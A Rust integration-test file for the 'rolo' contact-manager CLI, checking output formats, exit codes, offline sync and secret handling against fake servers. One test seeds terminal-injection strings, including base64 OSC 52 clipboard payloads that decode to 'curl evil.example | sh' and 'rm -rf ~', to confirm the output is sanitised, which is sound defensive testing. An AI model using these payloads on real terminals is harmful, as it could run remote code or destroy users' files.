//! The scriptable CLI, run as the real binary: the demo workspace and a
//! RogerRoger profile against the fake server, with the same JSON shape,
//! exit codes by error kind, and secrets kept out of every output.

use crate::sandbox;
use serde_json::Value;
use std::path::PathBuf;
use std::process::Output;
use support::fake_rogerroger::{API_KEY, FakeRogerRoger};
use support::output::{stderr, stdout};
use support::sandbox::Sandbox;

fn json(o: &Output) -> Value {
    assert!(o.status.success(), "failed: {}", stderr(o));
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", stdout(o)))
}

const PERSON_KEYS: &[&str] = &[
    "archived",
    "company",
    "createdAt",
    "customFields",
    "displayName",
    "emails",
    "familyName",
    "givenName",
    "id",
    "jobTitle",
    "phones",
    "tags",
    "updatedAt",
];

fn keys(v: &Value) -> Vec<String> {
    let mut k: Vec<String> = v.as_object().unwrap().keys().cloned().collect();
    k.sort();
    k
}

#[test]
fn demo_workspace_lists_in_the_normalised_shape() {
    let sb = sandbox();
    let all = json(&sb.run(&["list", "--format", "json"]));
    let people = all.as_array().unwrap();
    assert!(people.len() >= 200, "demo has {} people", people.len());
    for p in people {
        assert_eq!(keys(p), PERSON_KEYS);
    }
    let limited = json(&sb.run(&["list", "--limit", "3", "--format", "json"]));
    assert_eq!(limited.as_array().unwrap().len(), 3);
    let csv = stdout(&sb.run(&["list", "--limit", "2", "--format", "csv"]));
    assert_eq!(csv.lines().count(), 3, "{csv}");
    assert!(csv.starts_with("id,givenName,familyName,displayName,emails"));
}

#[test]
fn add_edit_notes_and_flags_round_trip_on_the_local_store() {
    let sb = sandbox();
    let out = sb.run(&[
        "add",
        "--family-name",
        "Hopper",
        "--given-name",
        "Grace",
        "--email",
        "grace@navy.example",
        "--phone",
        "+1 415 555 0100",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let id = stdout(&out).trim().to_string();
    let edited = json(&sb.run(&[
        "edit",
        &id,
        "--set",
        "jobTitle=Rear Admiral",
        "--set",
        "custom.tier=gold",
    ]));
    assert_eq!(edited["jobTitle"], "Rear Admiral");
    assert_eq!(edited["customFields"]["tier"], "gold");
    assert_eq!(
        edited["emails"][0], "grace@navy.example",
        "untouched fields stay"
    );

    let note = sb.run(&[
        "note",
        "add",
        &id,
        "--text",
        "Met at the conference",
        "--title",
        "Intro",
    ]);
    assert!(note.status.success(), "{}", stderr(&note));
    let note_id = stdout(&note).trim().to_string();
    let flagged = json(&sb.run(&["note", "flag", &id, &note_id]));
    assert_eq!(flagged["flagged"], true);
    let notes = json(&sb.run(&["note", "list", &id, "--format", "json"]));
    assert_eq!(notes[0]["title"], "Intro");
    assert_eq!(
        keys(&notes[0]),
        ["createdAt", "flagged", "id", "text", "title"]
    );
    let unflagged = json(&sb.run(&["note", "flag", &id, &note_id, "--off"]));
    assert_eq!(unflagged["flagged"], false);

    let shown = json(&sb.run(&["show", &id, "--format", "json"]));
    assert_eq!(shown["displayName"], "Grace Hopper");
    assert_eq!(shown["notes"].as_array().unwrap().len(), 1);

    let enrich = sb.run(&["enrich", &id]);
    assert!(
        stdout(&enrich).contains("company\t(empty)\t→ Navy"),
        "{}",
        stdout(&enrich)
    );
}

#[test]
fn exit_codes_tell_scripts_what_went_wrong() {
    let sb = sandbox();
    let code = |o: &Output| o.status.code().unwrap();
    assert_eq!(code(&sb.run(&["show", "no-such-id"])), 3);
    assert_eq!(code(&sb.run(&["add", "--given-nam", "X"])), 2, "bad flag");
    let nameless = sb.run(&["add", "--given-name", "X"]);
    assert_eq!(
        code(&nameless),
        4,
        "the local workspace needs a family name"
    );
    assert!(stderr(&nameless).contains("family name is required"));
    let bad = sb.run(&["add", "--family-name", "X", "--email", "not-an-email"]);
    assert_eq!(code(&bad), 4);
    assert!(stderr(&bad).contains("not an email address"));
    let ids = json(&sb.run(&["list", "--limit", "1", "--format", "json"]));
    let id = ids[0]["id"].as_str().unwrap();
    let unknown = sb.run(&["edit", id, "--set", "shoeSize=44"]);
    assert_eq!(code(&unknown), 2);
    assert!(stderr(&unknown).contains("unknown field 'shoeSize'"));
    assert_eq!(code(&sb.run(&["--profile", "nope", "list"])), 2);
}

fn rr_config(sb: &Sandbox, base_url: &str) -> PathBuf {
    sb.config(
        &format!(
            "[profiles.rr]\nbackend = \"rogerroger\"\nbase_url = \"{base_url}\"\napi_key_env = \"ROLO_TEST_RR_KEY\"\nrate_limit_per_minute = 6000\n"
        ),
        0o644,
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rogerroger_profile_speaks_the_same_json() {
    let fake = FakeRogerRoger::start().await;
    fake.seed_many(45);
    let sb = sandbox();
    rr_config(&sb, &fake.base_url);
    let run = |args: Vec<&'static str>, key: &'static str| {
        let mut c = sb.cmd(&args);
        c.env("ROLO_TEST_RR_KEY", key);
        c
    };
    let out = tokio::task::spawn_blocking({
        let mut c = run(
            vec!["--profile", "rr", "list", "--refresh", "--format", "json"],
            API_KEY,
        );
        move || c.output().unwrap()
    })
    .await
    .unwrap();
    let people = json(&out);
    assert_eq!(people.as_array().unwrap().len(), 45, "every page followed");
    for p in people.as_array().unwrap() {
        assert_eq!(keys(p), PERSON_KEYS);
    }
    // A wrong key: exit 6, and the key is in no output.
    let out = tokio::task::spawn_blocking({
        let mut c = run(
            vec!["--profile", "rr", "list", "--refresh"],
            "wrong-secret-value",
        );
        move || c.output().unwrap()
    })
    .await
    .unwrap();
    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
    assert!(!stderr(&out).contains("wrong-secret-value"));
    assert!(!stdout(&out).contains("wrong-secret-value"));
    // Enrichment is not offered by RogerRoger: say so, exit 2.
    let id = people[0]["id"].as_str().unwrap().to_string();
    let out = tokio::task::spawn_blocking({
        let mut c = sb.cmd(&["--profile", "rr", "enrich", &id]);
        c.env("ROLO_TEST_RR_KEY", API_KEY);
        move || c.output().unwrap()
    })
    .await
    .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("enrich"), "{}", stderr(&out));
}

#[test]
fn an_inline_secret_in_a_readable_config_is_refused() {
    let sb = sandbox();
    let path = sb.config(
        "[profiles.rr]\nbackend = \"rogerroger\"\nbase_url = \"http://127.0.0.1:9\"\napi_key = \"inline-secret-123\"\n",
        0o644,
    );
    let out = sb.run(&["--profile", "rr", "list"]);
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("chmod 600"), "{err}");
    assert!(err.contains(&path.display().to_string()));
    assert!(!err.contains("inline-secret-123"));
}

#[test]
fn a_missing_api_key_variable_is_named() {
    let sb = sandbox();
    rr_config(&sb, "http://127.0.0.1:9");
    let out = sb.run(&["--profile", "rr", "sync"]);
    assert_eq!(out.status.code(), Some(6));
    assert!(
        stderr(&out).contains("ROLO_TEST_RR_KEY is not set"),
        "{}",
        stderr(&out)
    );
}

/// Run the binary off the test's runtime threads (the fake server lives there).
async fn run_async(sb: &Sandbox, args: &[&str]) -> Output {
    let mut c = sb.cmd(args);
    c.env("ROLO_TEST_RR_KEY", API_KEY);
    tokio::task::spawn_blocking(move || c.output().unwrap())
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn offline_edits_queue_then_sync_sends_them_or_reports_a_conflict() {
    let fake = FakeRogerRoger::start().await;
    let ids = fake.seed_many(2);
    let sb = sandbox();
    rr_config(&sb, &fake.base_url);
    let out = run_async(&sb, &["--profile", "rr", "sync"]).await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("fetched 2 people"),
        "{}",
        stdout(&out)
    );

    // The server is out of reach: both edits are queued; queued is done
    // (exit 0), and stderr says when they will be sent.
    rr_config(&sb, "http://127.0.0.1:9");
    for (id, value) in [(&ids[0], "Mine"), (&ids[1], "Quiet")] {
        let set = format!("jobTitle={value}");
        let out = run_async(&sb, &["--profile", "rr", "edit", id, "--set", &set]).await;
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        assert!(
            stderr(&out).contains("queued: will be sent by rolo sync or the next start"),
            "{}",
            stderr(&out)
        );
        assert_eq!(json(&out)["jobTitle"], value, "prints the edit as queued");
    }
    // Meanwhile someone changes the first person's job title on the server.
    let http = reqwest::Client::new();
    let resp = http
        .patch(format!("{}/people/{}", fake.base_url, ids[0]))
        .header("X-API-KEY", API_KEY)
        .header("Content-Type", "application/merge-patch+json")
        .body(r#"{"jobTitle":"Theirs"}"#)
        .send()
        .await
        .unwrap();
    assert!(resp.status().is_success());
    fake.recorder.clear_log();

    // Back online: the clean edit goes through once; the other conflicts.
    rr_config(&sb, &fake.base_url);
    let out = run_async(&sb, &["--profile", "rr", "sync"]).await;
    assert_eq!(
        out.status.code(),
        Some(7),
        "{}\n{}",
        stdout(&out),
        stderr(&out)
    );
    assert!(stderr(&out).contains("conflict"), "{}", stderr(&out));
    assert_eq!(fake.raw(&ids[1]).unwrap()["jobTitle"], "Quiet");
    assert_eq!(
        fake.raw(&ids[0]).unwrap()["jobTitle"],
        "Theirs",
        "not overwritten"
    );
    let patches = fake.recorder.count("PATCH", &format!("/people/{}", ids[1]));
    assert_eq!(patches, 1, "sent exactly once");
    // The conflicted edit stays queued: a second sync says so again.
    let out = run_async(&sb, &["--profile", "rr", "sync"]).await;
    assert_eq!(out.status.code(), Some(7));
    assert!(
        stdout(&out).contains("1 change(s) still queued"),
        "{}",
        stdout(&out)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn remote_add_prints_the_server_id() {
    let fake = FakeRogerRoger::start().await;
    let sb = sandbox();
    rr_config(&sb, &fake.base_url);
    let out = run_async(
        &sb,
        &[
            "--profile",
            "rr",
            "add",
            "--family-name",
            "Lovelace",
            "--email",
            "ada@example.test",
        ],
    )
    .await;
    assert!(out.status.success(), "{}", stderr(&out));
    let id = stdout(&out).trim().to_string();
    assert!(!id.starts_with("local-"), "{id}");
    assert_eq!(fake.raw(&id).unwrap()["familyName"], "Lovelace");
    assert_eq!(fake.people_count(), 1);
}

#[test]
fn the_readme_exit_code_table_is_the_enum() {
    use rolo::cli::Exit;
    let readme =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md")).unwrap();
    let start = readme
        .find("<!-- exit-codes:begin")
        .expect("exit-code table start marker");
    let end = readme
        .find("<!-- exit-codes:end -->")
        .expect("exit-code table end marker");
    let table: Vec<&str> = readme[start..end].lines().skip(1).collect();
    let mut expected = vec!["| code | meaning |".to_string(), "|---|---|".to_string()];
    expected.extend(
        Exit::ALL
            .iter()
            .map(|e| format!("| {} | {} |", e.code(), e.meaning())),
    );
    assert_eq!(
        table,
        expected,
        "README.md's exit-code table drifted from rolo::cli::Exit; it should read:\n{}",
        expected.join("\n")
    );
}

/// Text that tries to take over the terminal: an OSC 52 clipboard write of
/// a shell command, an OSC 0 title change, clear-screen (7-bit and C1),
/// right-to-left override and isolate, a bell and DEL.
const EVIL_GIVEN: &str = "Eve\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
const EVIL_FAMILY: &str = "Mallory\u{202e}gnp.exe\u{2066}\u{9b}2J";
const EVIL_COMPANY: &str = "Evil\x1b]0;pwned\x07 Corp\x1b[2J\x7f";

fn assert_terminal_safe(what: &str, text: &str) {
    for c in text.chars() {
        let bad = (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}');
        assert!(!bad, "{what}: raw {:?} (U+{:04X}) in {text:?}", c, c as u32);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_server_text_is_clean_in_every_format() {
    let fake = FakeRogerRoger::start().await;
    let id = fake.seed(serde_json::json!({
        "givenName": EVIL_GIVEN,
        "familyName": EVIL_FAMILY,
        "jobTitle": EVIL_COMPANY,
        "emailAddresses": [{"email": "eve@evil.example"}],
    }));
    let escapes = "\x1b[31m".repeat(500);
    fake.seed_note(
        &id,
        &format!("Lunch\x1b]52;c;cm0gLXJmIH4=\x07{escapes}\u{85}"),
        false,
    );
    let sb = sandbox();
    rr_config(&sb, &fake.base_url);
    let synced = run_async(&sb, &["--profile", "rr", "sync"]).await;
    assert!(synced.status.success(), "{}", stderr(&synced));
    // The notes come into the cache when the person is read from the server.
    let read = run_async(&sb, &["--profile", "rr", "show", &id, "--refresh"]).await;
    assert!(read.status.success(), "{}", stderr(&read));
    let runs: &[&[&str]] = &[
        &["list"],
        &["list", "--format", "json"],
        &["list", "--format", "csv"],
        &["show", &id],
        &["show", &id, "--format", "json"],
        &["show", &id, "--format", "csv"],
        &["note", "list", &id],
        &["note", "list", &id, "--format", "json"],
        &["note", "list", &id, "--format", "csv"],
    ];
    for args in runs {
        let mut full = vec!["--profile", "rr"];
        full.extend_from_slice(args);
        let out = run_async(&sb, &full).await;
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        let text = stdout(&out);
        assert!(!text.trim().is_empty(), "{args:?} printed nothing");
        assert_terminal_safe(&format!("{args:?}"), &text);
        assert_terminal_safe(&format!("{args:?} stderr"), &stderr(&out));
    }
    // JSON loses nothing: the escapes parse back to the server's text.
    let shown = json(&run_async(&sb, &["--profile", "rr", "show", &id, "--format", "json"]).await);
    assert_eq!(shown["givenName"], EVIL_GIVEN);
    assert_eq!(shown["familyName"], EVIL_FAMILY);
    assert_eq!(shown["jobTitle"], EVIL_COMPANY);
    assert!(
        shown["notes"][0]["text"]
            .as_str()
            .unwrap()
            .ends_with(&format!("{escapes}\u{85}"))
    );
    let raw = stdout(&run_async(&sb, &["--profile", "rr", "show", &id, "--format", "json"]).await);
    assert!(
        raw.contains("\\u202e") && raw.contains("\\u001b]52"),
        "{raw}"
    );
}

/// A server that accepts connections and never answers.
fn silent_server() -> String {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for conn in listener.incoming() {
            held.push(conn);
        }
    });
    url
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_that_never_answers_costs_one_bounded_wait_per_request() {
    let fake = FakeRogerRoger::start().await;
    let ids = fake.seed_many(2);
    let sb = sandbox();
    rr_config(&sb, &fake.base_url);
    assert!(
        run_async(&sb, &["--profile", "rr", "sync"])
            .await
            .status
            .success()
    );
    sb.config(
        &format!(
            "[profiles.rr]\nbackend = \"rogerroger\"\nbase_url = \"{}\"\napi_key_env = \"ROLO_TEST_RR_KEY\"\nrate_limit_per_minute = 6000\nrequest_timeout_secs = 1\n",
            silent_server()
        ),
        0o644,
    );
    // The edit reads (1 s, then the cache), queues, tries to send (1 s):
    // it is queued, exit 0, and says what it waited for.
    let started = std::time::Instant::now();
    let out = run_async(
        &sb,
        &[
            "--profile",
            "rr",
            "edit",
            &ids[0],
            "--set",
            "jobTitle=Patient",
        ],
    )
    .await;
    let took = started.elapsed();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        took < std::time::Duration::from_secs(6),
        "edit took {took:?}"
    );
    let err = stderr(&out);
    assert!(
        err.contains("queued: will be sent by rolo sync or the next start"),
        "{err}"
    );
    assert!(err.contains("no answer from 127.0.0.1 after 1s"), "{err}");
    // A sync: one wait, exit 5, named.
    let started = std::time::Instant::now();
    let out = run_async(&sb, &["--profile", "rr", "sync"]).await;
    let took = started.elapsed();
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    assert!(
        took < std::time::Duration::from_secs(5),
        "sync took {took:?}"
    );
    assert!(
        stderr(&out).contains("no answer from 127.0.0.1 after 1s"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn a_secret_command_that_hangs_is_stopped_after_ten_seconds() {
    let sb = sandbox();
    sb.config(
        "[profiles.rr]\nbackend = \"rogerroger\"\nbase_url = \"http://127.0.0.1:9\"\napi_key_cmd = \"sleep 100\"\n",
        0o644,
    );
    let started = std::time::Instant::now();
    let out = sb.run(&["--profile", "rr", "sync"]);
    let took = started.elapsed();
    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
    assert!(took < std::time::Duration::from_secs(14), "took {took:?}");
    assert!(
        stderr(&out).contains("the secret command gave no answer within 10s and was stopped"),
        "{}",
        stderr(&out)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exit_codes_keep_outcomes_apart_on_a_remote_profile() {
    use support::faults::Fault;
    let fake = FakeRogerRoger::start().await;
    let ids = fake.seed_many(2);
    let sb = sandbox();
    rr_config(&sb, &fake.base_url);
    // A reply cut off while reading before an edit: nothing is queued.
    let path = format!("/people/{}", ids[0]);
    fake.inject(Some("GET"), Some(&path), Fault::Truncated, 1);
    let out = run_async(
        &sb,
        &["--profile", "rr", "edit", &ids[0], "--set", "jobTitle=X"],
    )
    .await;
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("nothing was changed or queued"),
        "{}",
        stderr(&out)
    );
    assert_eq!(queued_in(&sb), 0);
    assert_eq!(fake.recorder.count("PATCH", &path), 0);
    // A wrong key during sync is an authentication failure, not a network one.
    let mut c = sb.cmd(&["--profile", "rr", "sync"]);
    c.env("ROLO_TEST_RR_KEY", "wrong-key-value");
    let out = tokio::task::spawn_blocking(move || c.output().unwrap())
        .await
        .unwrap();
    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
    assert!(!stderr(&out).contains("wrong-key-value"));
    // RogerRoger has no notes endpoint for deletes and no custom fields:
    // refused when asked (exit 2), nothing queued.
    let out = run_async(
        &sb,
        &[
            "--profile",
            "rr",
            "edit",
            &ids[1],
            "--set",
            "custom.tier=gold",
        ],
    )
    .await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert_eq!(stderr(&out).trim(), "rolo: RogerRoger has no custom fields");
    assert_eq!(queued_in(&sb), 0);
    // A damaged cache: its own code, and the file is left alone.
    let cache = sb.path("cache/rolo/rr.sqlite");
    let garbage = vec![0x5a_u8; 8192];
    std::fs::write(&cache, &garbage).unwrap();
    let out = run_async(&sb, &["--profile", "rr", "list"]).await;
    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
    assert!(stderr(&out).contains("move it aside"), "{}", stderr(&out));
    assert_eq!(std::fs::read(&cache).unwrap(), garbage);
}

fn queued_in(sb: &Sandbox) -> usize {
    let path = sb.path("cache/rolo/rr.sqlite");
    if !path.exists() {
        return 0;
    }
    rolo::store::Store::open(&path)
        .unwrap()
        .queued_count()
        .unwrap()
}

const INTROZY_KEY_ENV: &str = "ROLO_TEST_INTROZY_KEY";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn introzy_edits_follow_what_introzy_stores() {
    use support::fake_introzy::{API_KEY as INTROZY_KEY, FakeIntrozy};
    let fake = FakeIntrozy::start().await;
    // Introzy allows a person without a last name.
    let id = fake.seed(serde_json::json!({
        "email": "ana@example.es", "firstName": "Ana",
        "address": "Calle de Alcalá 269, 08006 Barcelona, ES",
    }));
    let sb = sandbox();
    sb.config(
        &format!(
            "[profiles.iz]\nbackend = \"introzy\"\nbase_url = \"{}\"\napi_key_env = \"{INTROZY_KEY_ENV}\"\n",
            fake.base_url
        ),
        0o644,
    );
    let run = |args: Vec<String>| {
        let mut c = sb.cmd(&args.iter().map(String::as_str).collect::<Vec<_>>());
        c.env(INTROZY_KEY_ENV, INTROZY_KEY);
        tokio::task::spawn_blocking(move || c.output().unwrap())
    };
    let edit = |set: &str| {
        run(["--profile", "iz", "edit", &id, "--set", set]
            .iter()
            .map(|s| s.to_string())
            .collect())
    };
    let out = edit("city=Utrecht").await.unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        stderr(&out).trim(),
        "rolo: Introzy stores the address as one line: use --set address=…"
    );
    let out = edit("jobTitle=CTO").await.unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(stderr(&out).trim(), "rolo: Introzy has no job title field");
    assert_eq!(
        fake.recorder.count("PATCH", &format!("/api/people/{id}")),
        0
    );

    let out = edit("company=Acme").await.unwrap();
    assert!(
        out.status.success(),
        "no last name is fine here: {}",
        stderr(&out)
    );
    assert_eq!(fake.raw(&id).unwrap()["company"]["name"], "Acme");
    let out = edit("address=Keizersgracht 1, 1015 CJ Amsterdam, NL")
        .await
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        fake.raw(&id).unwrap()["address"],
        "Keizersgracht 1, 1015 CJ Amsterdam, NL"
    );
    // Custom fields are typed by the definitions: a select takes an
    // option's label or value and stores the value; anything else is invalid.
    let out = edit("custom.cf_lead_source=Website").await.unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        fake.raw(&id).unwrap()["customFields"]["cf_lead_source"],
        "web"
    );
    let out = edit("custom.cf_lead_source=Radio").await.unwrap();
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("not one of: Conference, Website"),
        "{}",
        stderr(&out)
    );
}
